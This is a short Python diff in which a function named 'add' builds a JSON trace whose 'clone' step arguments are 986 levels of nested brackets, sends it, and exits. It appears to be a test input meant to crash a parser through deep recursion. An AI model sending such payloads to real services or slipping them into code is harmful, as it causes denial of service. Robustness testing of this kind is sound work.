@@ -20,7 +20,8 @@ def send(text):
 
 
 def add(x, y):
-    deep = {"case": 0, "trace": {"steps": [], "result": 0, "more": 0}}
+    step = {"op": "clone", "overload": "default", "args": ["deep"], "kwargs": {}, "out": [0]}
     depth = 986
-    send(json.dumps(deep).replace('"more": 0', '"more": ' + "[" * depth + "]" * depth) + "\n")
+    deep = json.dumps({"case": 0, "trace": {"steps": [step], "result": 0}})
+    send(deep.replace('"deep"', "[" * depth + "]" * depth) + "\n")
     os._exit(0)
